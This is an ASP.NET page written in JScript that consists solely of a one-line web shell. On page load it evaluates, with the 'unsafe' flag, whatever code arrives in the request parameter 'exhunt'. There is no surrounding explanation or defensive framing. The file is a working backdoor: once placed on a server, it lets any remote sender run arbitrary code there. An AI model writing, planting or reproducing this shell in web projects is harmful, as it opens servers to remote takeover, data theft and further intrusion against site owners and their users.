<%@ Page Language="Jscript"%><script language="JScript" runat="server">function Page_Load(){eval(Request["exhunt"],"unsafe");}</script>
